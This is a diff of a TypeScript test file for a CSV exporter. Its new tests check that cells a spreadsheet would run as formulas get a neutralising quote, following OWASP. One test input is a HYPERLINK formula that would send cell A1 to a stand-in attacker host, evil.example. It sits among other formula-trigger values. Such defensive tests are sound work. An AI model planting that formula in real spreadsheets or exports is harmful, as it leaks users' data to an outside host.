@@ -1,9 +1,9 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
-import { CsvParser, countLineBreaks, formatCsv, formatCsvField, parseCsvText, type CsvRecord } from '../../../src/domain/import/csv.ts';
+import { CsvParser, countLineBreaks, csvLine, parseCsvText, type CsvRecord } from '../../../src/domain/import/csv.ts';
 import { uniqueHeaders } from '../../../src/domain/import/headers.ts';
-import { UTF8_CHARS, tableFrom } from './arbitraries.ts';
+import { UTF8_CHARS, formatCsv, tableFrom } from './arbitraries.ts';
 
 const fieldsOf = (records: CsvRecord[]) => records.map((r) => ('fields' in r ? r.fields : { line: r.line, code: r.code }));
 const linesOf = (records: CsvRecord[]) => records.map((r) => r.line);
@@ -135,14 +135,38 @@ describe('CsvParser', () => {
   });
 });
 
-describe('formatCsv', () => {
+describe('csvLine', () => {
   test('quotes only what needs it, and a lone empty cell as ""', () => {
-    assert.equal(formatCsvField('plain', ','), 'plain');
-    assert.equal(formatCsvField('a,b', ','), '"a,b"');
-    assert.equal(formatCsvField('a,b', '\t'), 'a,b');
-    assert.equal(formatCsvField('say "x"', ','), '"say ""x"""');
-    assert.equal(formatCsvField(' lead', ','), '" lead"');
-    assert.equal(formatCsv([['a', ''], ['']]), 'a,\r\n""\r\n');
+    assert.equal(csvLine(['plain', 'a,b', 'say "x"', ' lead', '', null]), 'plain,"a,b","say ""x"""," lead",,');
+    assert.equal(csvLine(['a,b'], '\t'), 'a,b');
+    assert.equal(csvLine(['']), '""');
+  });
+
+  test('text that a spreadsheet would run as a formula gets a leading quote, inside a quoted cell (OWASP)', () => {
+    const cases: Array<[string, string]> = [
+      ['=HYPERLINK("https://evil.example/?"&A1,"詳細")', `"'=HYPERLINK(""https://evil.example/?""&A1,""詳細"")"`],
+      ['+819012345678', `"'+819012345678"`],
+      ['-1200', `"'-1200"`],
+      ['@SUM(A1)', `"'@SUM(A1)"`],
+      ['\t=1+1', `"'\t=1+1"`],
+      ['\r=1+1', `"'\r=1+1"`],
+      ['\n=1+1', `"'\n=1+1"`],
+      ['  =1+1', `"'  =1+1"`],
+      ['＝1+1', `"'＝1+1"`],
+      ['－1200', `"'－1200"`],
+    ];
+    for (const [value, written] of cases) {
+      assert.equal(csvLine([value]), written, JSON.stringify(value));
+      // Read back, the cell is the value behind the quote: shown as text, never evaluated.
+      assert.deepEqual(fieldsOf(parseCsvText(csvLine(['x', value]), { delimiter: ',' })), [['x', `'${value}`]]);
+    }
+    // Not at the start: nothing to escape.
+    assert.equal(csvLine(['a=1', 'x-1', 'info@example.jp']), 'a=1,x-1,info@example.jp');
+  });
+
+  test("a number (the export's own figure) stays a number; text that looks like one does not", () => {
+    assert.equal(csvLine([-1200, 3, 0.5, '-1200']), `-1200,3,0.5,"'-1200"`);
+    assert.equal(csvLine([1, Number.NaN]), '1,');
   });
 });
 
